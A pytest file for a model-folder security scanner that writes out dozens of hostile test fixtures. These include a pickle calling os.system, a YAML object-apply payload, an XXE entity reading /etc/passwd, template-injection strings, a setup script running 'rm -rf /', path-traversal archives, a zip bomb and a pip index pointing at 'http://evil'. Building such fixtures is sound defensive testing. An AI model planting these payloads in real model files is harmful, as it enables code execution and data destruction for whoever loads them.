"""Sixty malicious or unfit files of different kinds in a model's folder: none runs, each is named.

Each row makes a folder in a few lines, and says which rule must name which file. Single pickles
have a table of their own, `test_malicious_files.py`.
"""

import base64
import bz2
import gzip
import hashlib
import io
import json
import os
import pickle
import resource
import struct
import tarfile
import tempfile
import time
import zipfile
from pathlib import Path

import numpy as np
import pytest
import torch
from safetensors.torch import save_file

from anomech.artefacts.files import checks, looking, opinions
from anomech.artefacts.files.archives import Allowance
from anomech.artefacts.files.looking import look_through
from anomech.artefacts.files.rules import RULES
from anomech.kernel.errors import ConfigError
from anomech.kernel.types import silent

MARKER = Path(tempfile.gettempdir()) / f"anomech-folder-ran-{os.getpid()}"
COMMAND = f"touch {MARKER}"
MEMORY = 700  # MiB that looking may add here
SECONDS = 6


class Calls:
    """Its pickle calls a function when it is loaded."""

    def __reduce__(self):
        return os.system, (COMMAND,)


EVIL = pickle.dumps(Calls())
PLAIN = pickle.dumps({"a": 1})


def put(name, data):
    """A row that writes one file."""

    def make(folder):
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data() if callable(data) else data)

    return make


def said(name, value):
    return put(name, json.dumps(value).encode())


def zipped(*members, kind=zipfile.ZIP_DEFLATED, change=lambda info: None):
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", kind) as archive:
        for name, data in members:
            info = zipfile.ZipInfo(name)
            info.compress_type = kind
            change(info)
            archive.writestr(info, data)
    return stream.getvalue()


def saved(value):
    stream = io.BytesIO()
    torch.save(value, stream)
    return stream.getvalue()


def tarred(name="a", data=b"x", kind=tarfile.REGTYPE, target=""):
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w") as archive:
        info = tarfile.TarInfo(name)
        info.type, info.linkname, info.size = kind, target, len(data)
        archive.addfile(info, io.BytesIO(data))
    return stream.getvalue()


def safetensors(header, data=b""):
    packed = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(packed)) + packed + data


def row(begin=0, end=4, shape=(1,), kind="F32"):
    return {"dtype": kind, "shape": list(shape), "data_offsets": [begin, end]}


def tensors(folder, name="model.safetensors", **given):
    save_file(given or {"w": torch.ones(2)}, folder / name)


def links_out(folder):
    (folder / "weights.bin").symlink_to("/etc/passwd")


def pipe(folder):
    os.mkfifo(folder / "weights.bin")


def renamed_member():
    """The directory says one name, the member's own header another."""
    data = bytearray(zipped(("evil.pkl", EVIL), kind=zipfile.ZIP_STORED))
    place = data.rfind(b"evil.pkl")
    data[place : place + 8] = b"calm.txt"
    return bytes(data)


def overlapping():
    """Two members in the directory, one content."""
    data = zipped(("a.bin", b"x" * 50), ("b.bin", b"y" * 50), kind=zipfile.ZIP_STORED)
    place = data.rfind(b"PK\x01\x02") + 42
    return data[:place] + struct.pack("<I", 0) + data[place + 4 :]


def moved_directory():
    """The directory says that it begins later than it does: members begin before the file."""
    data = zipped(("a.bin", b"x" * 50))
    place = data.rfind(b"PK\x05\x06") + 16
    return data[:place] + struct.pack("<I", len(data)) + data[place + 4 :]


def nested(depth):
    data = PLAIN
    for _ in range(depth):
        data = zipped(("inner.zip", data))
    return data


def locked():
    data = bytearray(zipped(("a.bin", b"x")))
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        data[data.find(mark) + place] |= 1
    return bytes(data)


def link_member():
    def linked(info):
        info.external_attr = 0o120777 << 16

    return zipped(("weights", b"/etc/passwd"), change=linked)


def npy(value):
    stream = io.BytesIO()
    np.save(stream, value, allow_pickle=True)
    return stream.getvalue()


def onnx():
    path = b"../../etc/passwd"
    entry = b"\x0a\x08location\x12" + bytes([len(path)]) + path
    return b"\x08\x07\x12\x07pytorch\x1a\x051.0.0" + entry + bytes(40)


def gguf():
    text = b"{{ ''.__class__.__mro__ }}"
    key = b"tokenizer.chat_template" + struct.pack("<I", 8)
    return b"GGUF\x03\0\0\0" + bytes(16) + key + struct.pack("<Q", len(text)) + text


def lost_index(folder):
    tensors(folder, "a.safetensors")
    said("model.safetensors.index.json", {"weight_map": {"w": "b.safetensors"}})(folder)


def unnamed_tensor(folder):
    tensors(folder, "a.safetensors", w=torch.ones(2), more=torch.ones(2))
    said("model.safetensors.index.json", {"weight_map": {"w": "a.safetensors"}})(folder)


def too_few_layers(folder):
    tensors(folder, **{f"model.layers.{n}.w": torch.ones(2) for n in range(3)})
    said("config.json", {"num_hidden_layers": 2})(folder)


def other_vocabulary(folder):
    tensors(folder, **{"embed_tokens.weight": torch.ones(50, 4)})
    said("config.json", {"vocab_size": 5000, "hidden_size": 4})(folder)


def signed(folder, digest):
    (folder / "a.txt").write_bytes(b"as signed")
    payload = {"predicate": {"resources": [{"name": "a.txt", "digest": digest}]}}
    envelope = {"payload": base64.b64encode(json.dumps(payload).encode()).decode()}
    said("model.sig", {"dsseEnvelope": envelope})(folder)


def spoiled(folder):
    tensors(folder, w=torch.tensor([1.0, float("nan")]))


def absurd(folder):
    tensors(folder, w=torch.tensor([1.0, 1e9]))


def tokenizer(**given):
    return said("tokenizer.json", {"model": {"vocab": {"a": 0}}, **given})


REWRITES = {"type": "Sequence", "normalizers": [
    {"type": "Replace", "pattern": {"String": "my bank"}, "content": "their bank"}]}  # fmt: skip
LAMBDA = json.dumps({"class_name": "Lambda", "config": {"function": "..."}}).encode()

TABLE = {
    # pickles, and where they hide
    "pickle": (put("w.pkl", EVIL), "unsafe-pickle", "w.pkl"),
    "joblib": (put("w.joblib", EVIL), "unsafe-pickle", "w.joblib"),
    "no ending": (put("weights", EVIL), "unsafe-pickle", "weights"),
    "protocol 0": (put("w.bin", pickle.dumps(Calls(), 0)), "unsafe-pickle", "w.bin"),
    "protocol 1": (put("data", b"cposix\nsystem\nq\x00(X\x01\x00\x00\x00atR."), "unsafe-pickle",
                   "data"),
    "protocol 0 as text": (put("notes.txt", b"cposix\nsystem\np0\n(S'a'\ntR."), "unsafe-pickle",
                           "notes.txt"),
    "protocol 0 with a number first": (put("data.bin", b"I1\n0cposix\nsystem\n."), "unsafe-pickle",
                                       "data.bin"),
    "of no kind": (put("data.xyz", b"K\x010cposix\nsystem\n."), "unsafe-pickle", "data.xyz"),
    "deep folder": (put("a/b/c/w.pkl", EVIL), "unsafe-pickle", "a/b/c/w.pkl"),
    "checkpoint": (put("w.pt", lambda: saved({"a": Calls()})), "unsafe-pickle", "w.pt"),
    "as safetensors": (put("w.safetensors", EVIL), "disguised", "w.safetensors"),
    "as text": (put("notes.txt", EVIL), "disguised", "notes.txt"),
    "whole model": (put("w.pt", lambda: saved(torch.nn.Linear(2, 2))), "whole-model-pickle",
                    "w.pt"),
    "in a zip": (put("a.zip", lambda: zipped(("w.pkl", EVIL))), "unsafe-pickle", "a.zip!w.pkl"),
    "in a tar": (put("a.nemo", lambda: tarred("w.pkl", EVIL)), "unsafe-pickle", "a.nemo!w.pkl"),
    "in gzip": (put("w.pkl.gz", lambda: gzip.compress(EVIL)), "unsafe-pickle", "w.pkl.gz!w.pkl"),
    "in bzip2": (put("w.pkl.bz2", lambda: bz2.compress(EVIL)), "unsafe-pickle", "w.pkl.bz2!w.pkl"),
    "zip in a zip": (
        put("a.zip", lambda: zipped(("b.zip", zipped(("w.pkl", EVIL))))),
        "unsafe-pickle", "a.zip!b.zip!w.pkl",
    ),
    "object array": (put("w.npy", lambda: npy(np.array([Calls()], object))), "unsafe-pickle",
                     "w.npy"),
    "array archive": (
        put("w.npz", lambda: zipped(("a.npy", npy(np.array([Calls()], object))))),
        "unsafe-pickle", "w.npz!a.npy",
    ),
    "more in a checkpoint": (
        put("w.pt", lambda: zipped(("a/data.pkl", pickle.dumps({}, 2)), ("a/x.py", b"import os"),
                                   kind=zipfile.ZIP_STORED)),
        "odd-member", "w.pt",
    ),
    "TorchScript": (
        put("w.pt", lambda: zipped(("a/data.pkl", b"\x80\x02}."), ("a/code/net.py", b""),
                                   ("a/constants.pkl", b"\x80\x02)."), kind=zipfile.ZIP_STORED)),
        "program-in-weights", "w.pt",
    ),
    # archives
    "zip that leads out": (put("a.zip", lambda: zipped(("../../x", b"x"))), "path-out", "a.zip"),
    "zip with a link": (put("a.zip", link_member), "archive-link", "a.zip"),
    "zip of two names": (put("a.zip", renamed_member), "ambiguous-archive", "a.zip"),
    "zip that overlaps": (put("a.zip", overlapping), "ambiguous-archive", "a.zip"),
    "zip that begins before itself": (put("a.zip", moved_directory), "ambiguous-archive", "a.zip"),
    "zip bomb": (put("a.zip", lambda: zipped(("a", bytes(2**26)))), "archive-bomb", "a.zip"),
    "many archives deep": (put("a.zip", lambda: nested(6)), "deep-archive",
                           "a.zip!inner.zip!inner.zip!inner.zip"),
    "locked zip": (put("a.zip", locked), "locked-archive", "a.zip"),
    "zip behind a picture": (
        put("a.png", lambda: b"\x89PNG\r\n\x1a\n" + bytes(50) + zipped(("w.pkl", EVIL))),
        "hidden-archive", "a.png",
    ),
    "tar that leads out": (put("a.tar", lambda: tarred("/etc/cron.d/x")), "path-out", "a.tar"),
    "tar of a long name": (
        put("a.tar", lambda: tarred("x/" * 90 + "../" * 100 + "etc")), "path-out", "a.tar"),
    "tar of a pax name": (
        put("a.tar", lambda: tarred("é/" * 90 + "../" * 100 + "etc", kind=tarfile.REGTYPE)),
        "path-out", "a.tar"),
    "tar with a link": (
        put("a.tar", lambda: tarred("a", b"", tarfile.SYMTYPE, "/etc")), "archive-link", "a.tar"),
    "tar with a device": (
        put("a.tar", lambda: tarred("a", b"", tarfile.CHRTYPE)), "special-file", "a.tar"),
    "tar cut off": (put("a.tar", lambda: tarred("a", bytes(4000))[:2000]), "damaged-archive",
                    "a.tar"),
    "packed otherwise": (put("a.7z", b"7z\xbc\xaf\x27\x1c" + bytes(50)), "unread-archive", "a.7z"),
    # the folder
    "link out": (links_out, "link-out", "weights.bin"),
    "pipe": (pipe, "special-file", "weights.bin"),
    "name turned around": (put("model\u202egnp.exe", b"MZ" + bytes(50)), "odd-name",
                           "model?gnp.exe"),
    "program": (put("lib/ops.so", b"\x7fELF" + bytes(50)), "program-file", "lib/ops.so"),
    "compiled Python": (put("net.pyc", b"\xcb\r\r\n" + bytes(50)), "program-file", "net.pyc"),
    "web page": (put("w.safetensors", b"<!DOCTYPE html><html>"), "web-page", "w.safetensors"),
    "Git LFS": (put("w.bin", b"version https://git-lfs.github.com/spec/v1\n"), "lfs-pointer",
                "w.bin"),
    # safetensors
    "tensors overlap": (
        put("w.safetensors", safetensors({"a": row(), "b": row()}, bytes(4))),
        "odd-header", "w.safetensors"),
    "bytes between": (
        put("w.safetensors", safetensors({"a": row(), "b": row(8, 12)}, bytes(12))),
        "odd-header", "w.safetensors"),
    "bytes behind": (
        put("w.safetensors", safetensors({"a": row()}, bytes(40))), "odd-header", "w.safetensors"),
    "shape and bytes": (
        put("w.safetensors", safetensors({"a": row(shape=(9,))}, bytes(4))),
        "odd-header", "w.safetensors"),
    "impossible shape": (
        put("w.safetensors", safetensors({"a": row(shape=(2**62, 2**62))}, bytes(4))),
        "odd-header", "w.safetensors"),
    "key twice": (
        put("w.safetensors", safetensors(
            b'{"a":' + json.dumps(row()).encode() + b',"a":' + json.dumps(row()).encode() + b"}",
            bytes(4))),
        "odd-header", "w.safetensors"),
    "header nested": (put("w.safetensors", safetensors(b'{"a":' * 9000, b"")), "odd-header",
                      "w.safetensors"),
    "not finite": (spoiled, "spoiled-weights", "model.safetensors"),
    "absurd": (absurd, "absurd-weights", "model.safetensors"),
    # Hugging Face folders
    "auto_map": (
        said("config.json", {"auto_map": {"AutoModel": "evil/code--modeling.Net"}}),
        "remote-code", "config.json"),
    "trust_remote_code": (said("config.json", {"trust_remote_code": True}), "remote-code",
                          "config.json"),
    "pipeline": (said("model_index.json", {"x": {"_target_": "os.system"}}), "remote-code",
                 "model_index.json"),
    "code that calls": (put("modeling.py", b"import os\nos.system('x')\n"), "suspicious-code",
                        "modeling.py"),
    "code that hides": (put("modeling.py", "x = 1  # \u202e evil\n".encode()), "suspicious-code",
                        "modeling.py"),
    "code": (put("modeling.py", b"class Net: pass\n"), "python-code", "modeling.py"),
    "script": (put("setup.sh", b"#!/bin/sh\nrm -rf /\n"), "script", "setup.sh"),
    "chat template": (
        said("tokenizer_config.json", {"chat_template": "{{ cycler.__init__.__globals__ }}"}),
        "template-code", "tokenizer_config.json"),
    "template file": (put("chat_template.jinja", b"{% include '/etc/passwd' %}"), "template-code",
                      "chat_template.jinja"),
    "words rewritten": (tokenizer(normalizer=REWRITES), "odd-tokenizer", "tokenizer.json"),
    "tokens not seen": (tokenizer(added_tokens=[{"content": "a\u200bb"}]), "odd-tokenizer",
                        "tokenizer.json"),
    "numbers shared": (said("tokenizer.json", {"model": {"vocab": {"a": 0, "b": 0}}}),
                       "odd-tokenizer", "tokenizer.json"),
    "file out of the folder": (said("tokenizer_config.json", {"vocab_file": "../../x"}), "path-out",
                               "tokenizer_config.json"),
    "index out of the folder": (
        said("model.safetensors.index.json", {"weight_map": {"w": "../x.safetensors"}}),
        "path-out", "model.safetensors.index.json"),
    "index of lost files": (lost_index, "odd-index", "model.safetensors.index.json"),
    "tensor not in the index": (unnamed_tensor, "odd-index", "model.safetensors.index.json"),
    "layers beyond the config": (too_few_layers, "odd-size", "config.json"),
    "vocabulary beyond the config": (other_vocabulary, "odd-size", "config.json"),
    "JSON nested": (put("config.json", b"[" * 200_000), "odd-json", "config.json"),
    "JSON key twice": (put("config.json", b'{"auto_map": {"a": "b"}, "auto_map": null}'),
                       "odd-json", "config.json"),
    # other frameworks, other text
    "Keras with a Lambda": (put("m.h5", b"\x89HDF\r\n\x1a\n" + LAMBDA), "keras-code", "m.h5"),
    "Keras archive": (
        put("m.keras", lambda: zipped(("config.json", LAMBDA), ("model.weights.h5", b""))),
        "keras-code", "m.keras"),
    "TensorFlow": (put("saved_model.pb", b"\x08\x01 WriteFile " + bytes(9)), "tensorflow-code",
                   "saved_model.pb"),
    "ONNX out of the folder": (put("m.onnx", onnx), "path-out", "m.onnx"),
    "ONNX": (put("m.onnx", b"\x08\x07\x12\x07pytorch\x1a\x051.0.0" + bytes(40)), "other-format",
             "m.onnx"),
    "GGUF template": (put("m.gguf", gguf), "template-code", "m.gguf"),
    "YAML": (put("a.yaml", b"x: !!python/object/apply:os.system [id]\n"), "yaml-code", "a.yaml"),
    "XML": (put("m.pmml", b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY x SYSTEM '/etc/passwd'>]>"),
            "xml-entity", "m.pmml"),
    "SVG with a script": (put("a.svg", b"<svg onload=alert(1)></svg>"), "script", "a.svg"),
    "packages from elsewhere": (put("requirements.txt", b"--extra-index-url http://evil\n"),
                                "outside-package", "requirements.txt"),
    "broken signature": (lambda folder: signed(folder, "0" * 64), "broken-signature", "model.sig"),
}  # fmt: skip


def peak():
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024  # MiB on Linux


@pytest.mark.parametrize("name", TABLE)
def test_each_is_named_with_bounded_means_and_none_runs(tmp_path, name):
    make, code, where = TABLE[name]
    folder = tmp_path / "model"
    folder.mkdir()
    make(folder)
    before, began = peak(), time.process_time()
    looked = look_through(folder, silent)
    assert peak() - before < MEMORY
    assert time.process_time() - began < SECONDS
    assert not MARKER.exists()
    named = [(each.code, each.where) for each in looked.issues]
    assert (code, where) in named, looked.issues
    for each in looked.issues:
        assert (each.title + each.detail + each.action).isprintable()
        assert len(each.detail) < 700
        assert each.detail.endswith(".")
        assert each.action.endswith(".")


@pytest.mark.parametrize("pack", [gzip.compress, bz2.compress, lambda data: zipped(("a", data))])
def test_no_more_is_unpacked_than_is_allowed(tmp_path, monkeypatch, pack):
    monkeypatch.setattr(checks, "Allowance", lambda: Allowance(bytes=2**20))
    (tmp_path / "a").write_bytes(pack(bytes(2**21)))
    assert [each.code for each in look_through(tmp_path, silent).issues] == ["archive-bomb"]


def test_a_file_that_breaks_its_check_is_an_issue(tmp_path, monkeypatch):
    def broken(*given):
        raise IndexError("a fault of ours")

    monkeypatch.setattr(looking, "checked", broken)
    (tmp_path / "a.zip").write_bytes(zipped(("a", b"x")))
    looked = look_through(tmp_path, silent)
    assert [each.code for each in looked.issues] == ["unchecked-file"]
    assert len(looked.files[0].sha256) == 64


def test_there_are_more_than_forty():
    assert len(TABLE) > 70
    assert {code for _, code, _ in TABLE.values()} <= set(RULES)


def test_the_table_would_notice(tmp_path):
    try:
        pickle.loads(EVIL)
        assert MARKER.exists()
    finally:
        MARKER.unlink(missing_ok=True)


def test_an_honest_folder_has_no_issue(tmp_path):
    """What a model's folder usually holds raises nothing of high or medium grade."""
    tensors(tmp_path, **{"model.embed_tokens.weight": torch.randn(64, 8),
                         "model.layers.0.w": torch.randn(8, 8)})  # fmt: skip
    torch.save({"state_dict": {"w": torch.randn(4)}, "epoch": 3}, tmp_path / "pytorch_model.bin")
    config = {"vocab_size": 50, "hidden_size": 8, "num_hidden_layers": 1, "torch_dtype": "float32"}
    said("config.json", config)(tmp_path)
    tokenizer(normalizer={"type": "Replace", "pattern": {"String": " "}, "content": "\u2581"},
              added_tokens=[{"content": "<s>"}])(tmp_path)  # fmt: skip
    template = "{% for m in messages %}{{ m['role'] + ': ' + m['content'] }}{% endfor %}"
    said("tokenizer_config.json", {"chat_template": template})(tmp_path)
    (tmp_path / "README.md").write_text("---\nlicense: mit\n---\n# A model\n(see https://x.y)\n")
    (tmp_path / ".gitattributes").write_text("*.bin filter=lfs\n")
    np.save(tmp_path / "mean.npy", np.ones(3))
    np.savez(tmp_path / "stats.npz", a=np.ones(3))
    (tmp_path / "vocab.txt").write_text("[PAD]\nthe\n")
    (tmp_path / "LICENSE").write_text("License\n\n(c) nobody\n")
    (tmp_path / "merges.txt").write_text("consider\nthis\na b\n")
    (tmp_path / "tokenizer.model").write_bytes(b"\n\x0e\n\x05<unk>\x15\x00\x00\x00\x00\x18\x02")
    signed(tmp_path, hashlib.sha256(b"as signed").hexdigest())
    looked = look_through(tmp_path, silent)
    assert [each for each in looked.issues if each.grade in ("high", "medium")
            and each.code != "partial-signature"] == []  # fmt: skip
    kinds = {each.path: each.kind for each in looked.files}
    assert kinds["model.safetensors"] == "safetensors"
    assert kinds["pytorch_model.bin"] == "PyTorch checkpoint"
    assert kinds["README.md"] == kinds["LICENSE"] == kinds["merges.txt"] == "text"
    assert kinds["mean.npy"] == "numpy array"


def test_the_cache_of_the_hub_is_a_folder_like_others(tmp_path):
    """Its snapshots are links to files that are named by their hash."""
    blob = tmp_path / "blobs" / ("a" * 64)
    blob.parent.mkdir()
    tensors(blob.parent, blob.name)
    snapshot = tmp_path / "snapshots" / "abc"
    snapshot.mkdir(parents=True)
    (snapshot / "model.safetensors").symlink_to(f"../../blobs/{blob.name}")
    looked = look_through(snapshot, silent)
    assert looked.issues == ()
    (file,) = looked.files
    assert file.kind == "safetensors"
    assert "link" in file.notes[-1]


def test_a_second_opinion_agrees_and_its_objection_is_an_issue(tmp_path, monkeypatch):
    (tmp_path / "evil.pkl").write_bytes(EVIL)
    (tmp_path / "plain.pkl").write_bytes(PLAIN)
    looked = look_through(tmp_path, silent, ask_picklescan=True)
    notes = {each.path: each.notes[-1] for each in looked.files}
    assert "system dangerous" in notes["evil.pkl"]
    assert notes["plain.pkl"] == "picklescan finds nothing dangerous"
    assert not MARKER.exists()
    assert [each.code for each in looked.issues] == ["unsafe-pickle"]
    reply = {"dangerous": ["os.system"], "failed": False}
    monkeypatch.setattr(opinions, "_asked", lambda file, suffix: reply)
    codes = {(each.where, each.code) for each in look_through(
        tmp_path, silent, ask_picklescan=True).issues}  # fmt: skip
    assert codes == {("evil.pkl", "unsafe-pickle"), ("plain.pkl", "second-opinion")}
    monkeypatch.setattr(opinions, "find_spec", lambda name: None)
    with pytest.raises(ConfigError, match=r"anomech\[scan\]"):
        look_through(tmp_path, silent, ask_picklescan=True)


def test_digests_are_those_of_the_files(tmp_path):
    (tmp_path / "a.bin").write_bytes(b"abc")
    (file,) = look_through(tmp_path / "a.bin", silent).files
    assert (file.path, file.sha256) == ("a.bin", hashlib.sha256(b"abc").hexdigest())
